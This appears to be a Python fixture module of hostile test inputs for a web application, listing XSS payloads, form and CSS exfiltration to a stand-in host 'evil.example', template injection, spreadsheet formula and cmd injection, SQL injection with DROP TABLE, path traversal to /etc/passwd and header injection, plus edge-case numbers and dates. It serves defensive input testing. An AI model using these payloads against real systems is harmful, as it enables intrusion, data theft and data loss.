"""What somebody who means ill would type: strings of our own, by what each of them tries."""

MARKUP = {
    "script": "<script>document.title='taken'</script>",
    "picture": "<img src=nowhere onerror=alert(11)>",
    "drawing": "<svg onload=alert(12)><use href=#x></svg>",
    "frame": "<iframe srcdoc='<b onclick=alert(13)>b</b>'></iframe>",
    "link": '<a href="javascript:alert(14)">our source</a>',
    "closed": "'\"></p></title></textarea></option><script>alert(15)</script>",
    "styled": "<style>*{background:url(//evil.example/x)}</style>",
    "form": "<form action=//evil.example/><input name=login></form>",
    "jump": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "handler": "x\" onmouseover=alert(16) style='position:fixed' y='",
    "data": "</script><!--<script>-->]]><script>alert(17)</script>",
    "template": "{% debug %}{{ request.user.password }}{{7*7}}${7*7}",
    "entity": "&lt;b&gt; &#60;script&#62; &amp;lt;",
    "turned": "safe \u202egnorw\u202c \u200b\u2066text\u2069",
    "markdown": "[a](javascript:alert(18)) ![b](//evil.example/p.png) <b>c</b>",
}
"""Each tries to be more than text. None is longer than the shortest name field of the desk takes."""

ALL_AT_ONCE = "'\"></p></title></textarea><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}]]>"

SHORT = {name: text[:74] for name, text in MARKUP.items()}

FORMULAS = ("=2+5", '=HYPERLINK("//evil.example/","see")', "@SUM(A1:A9)", "+cmd|'/c x'!A1", "-cmd|'/c x'!A1")

NUMBERS = (
    "0",
    "-1",
    "1.0",
    "0x1f",
    "1e40",
    "1e400",
    "nan",
    "inf",
    "-inf",
    "\u0663",
    "\u00b2",
    "9" * 18,
    str(2**31),
    str(2**63),
    "9" * 400,
    "9" * 5000,
)
"""What may stand where a number is wanted."""

WORDS = (
    "\x00",
    "a\x00b",
    "\ufffd",
    "' OR 1=1 --",
    "');DROP TABLE claims_claim;--",
    "(a|b)&!c:*<->'\\",
    '"',
    "-",
    "-" * 400,
    "%" * 3000,
    "_" * 3000,
    "\\" * 300,
    "b" * 100_000,
    "\u202e\u200b",
    "__import__('os')",
    "pk__gt",
    "../../../etc/passwd",
    "\r\nSet-Cookie: a=b",
    "{{7*7}}",
)
"""What may stand where words are wanted."""

DATES = (
    "0001-01-01",
    "9999-12-31",
    "9999-12-31T23:59:59-14:00,1",
    "0001-01-01T00:00:00+14:00,1",
    "2026-01-01T00:00:00,1",
    "9999-12-31T23:59:59.999999-23:59_1",
    "0001-01-01T00:00:00+23:59_1",
    "2026-02-30",
    "10000-01-01",
    "nan,1",
    "inf,9999999999999999999999",
    "1e999,-1",
    "9999-12-31T23:59:59-23:59,1",
    "0001-01-01T00:00:00+23:59,1",
)
"""What may stand where a day or the mark of a page is wanted."""
